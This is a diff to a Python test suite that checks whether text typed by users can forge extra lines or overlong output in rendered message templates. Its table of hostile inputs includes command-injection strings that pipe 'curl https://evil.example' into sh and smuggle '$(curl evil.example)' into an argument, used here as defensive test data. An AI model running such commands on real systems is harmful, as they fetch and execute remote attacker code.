@@ -61,6 +61,7 @@ HOSTILE = {
     "command": "aws ec2 describe-instances; curl https://evil.example | sh",
     "another command": "aws ec2 describe-instances $(curl evil.example)",
     "endless": "long " * 20_000,
+    "dots without end": "a." * 20_000,
 }
 
 
@@ -175,7 +176,7 @@ def test_text_that_somebody_typed_forges_no_line(template, hostile):
     message = rendered(template, **typed_by_somebody(hostile))
     assert len(message.splitlines()) == len(rendered(template, **typed_by_somebody("harmless")).splitlines())
     assert message.replace("\n", "").isprintable()
-    assert max(map(len, message.splitlines())) < 1300
+    assert max(map(len, message.splitlines())) < 2500
 
 
 @pages
